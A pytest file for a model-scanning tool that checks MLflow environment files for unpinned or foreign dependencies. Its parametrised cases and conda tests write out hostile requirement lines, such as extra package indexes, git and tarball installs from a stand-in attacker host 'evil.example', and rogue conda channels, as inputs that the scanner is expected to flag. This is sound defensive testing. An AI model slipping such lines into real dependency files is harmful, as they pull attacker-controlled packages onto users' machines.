"""environment: MLflow's conda.yaml, python_env.yaml and requirements.txt install only our pinned packages."""

from __future__ import annotations

import pytest
import yaml

from distilgpt2_asset.model_scan import scan_model
from distilgpt2_asset.model_scan.environment import allowed_pins, check_environment_file
from distilgpt2_scoring.model_files import write_manifest

ENVIRONMENT_FILES = ("conda.yaml", "python_env.yaml", "requirements.txt")


def findings(path):
    return [f.message for f in check_environment_file(path.name, path)]


def test_the_builds_environment_files_pass(tiny_mlflow_model):
    assert {name: findings(tiny_mlflow_model / name) for name in ENVIRONMENT_FILES} == dict.fromkeys(
        ENVIRONMENT_FILES, []
    )


def test_the_allowed_pins_are_the_projects_runtime_dependencies():
    assert ("torch", "2.13.0") in allowed_pins() and ("mlflow", "3.17.2") in allowed_pins()
    assert not any(name == "pytest" for name, _ in allowed_pins())  # a test extra is never installed with a model


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url https://evil.example/simple",
        "--index-url https://evil.example/simple",
        "-i https://evil.example/simple",
        "evil-package==6.6.6",
        "torch==6.6.6",
        "torch>=2.0",
        "torch",
        "git+https://github.com/evil/evil.git",
        "https://evil.example/evil-1.0.tar.gz",
        "evil @ https://evil.example/evil-1.0.tar.gz",
        "./vendor/evil",
        "-e .",
        "-r other.txt",
        "torch==2.13.0 --hash=sha256:00",
    ],
)
def test_every_requirement_but_a_project_pin_is_a_finding(tmp_path, line):
    path = tmp_path / "requirements.txt"
    path.write_text(f"transformers==5.24.0\n{line}\n")
    [message] = findings(path)
    assert line.split()[0][:20] in message


def test_conda_channels_packages_and_pip_lists_are_read(tmp_path, tiny_mlflow_model):
    conda = yaml.safe_load((tiny_mlflow_model / "conda.yaml").read_text())
    conda["channels"].append("https://evil.example/conda")
    conda["dependencies"].append("evil-conda-package")
    conda["dependencies"][-2]["pip"].append("--extra-index-url https://evil.example/simple")
    path = tmp_path / "conda.yaml"
    path.write_text(yaml.safe_dump(conda))
    messages = findings(path)
    assert len(messages) == 3
    assert any("channel 'https://evil.example/conda'" in m for m in messages)
    assert any("evil-conda-package" in m for m in messages)
    assert any("--extra-index-url" in m for m in messages)


def test_python_env_dependencies_other_than_the_requirements_file_are_read(tmp_path, tiny_mlflow_model):
    python_env = yaml.safe_load((tiny_mlflow_model / "python_env.yaml").read_text())
    python_env["dependencies"].append("git+https://github.com/evil/evil.git")
    python_env["build_dependencies"].append("evil-build-tool==1.0")
    path = tmp_path / "python_env.yaml"
    path.write_text(yaml.safe_dump(python_env))
    assert len(findings(path)) == 2


def test_a_build_with_an_evil_index_in_its_requirements_scans_failed(mlflow_copy):
    """The attack: a model whose requirements.txt sends pip to another index scanned CLEAN, and could be registered."""
    with open(mlflow_copy / "requirements.txt", "a") as handle:
        handle.write("\n--extra-index-url https://evil.example/simple\nevil-package==6.6.6\n")
    write_manifest(mlflow_copy)
    report = scan_model(mlflow_copy)
    assert report.verdict == "failed"
    assert {(f.file, f.rule) for f in report.failing} == {("requirements.txt", "environment")}
    assert len(report.failing) == 2
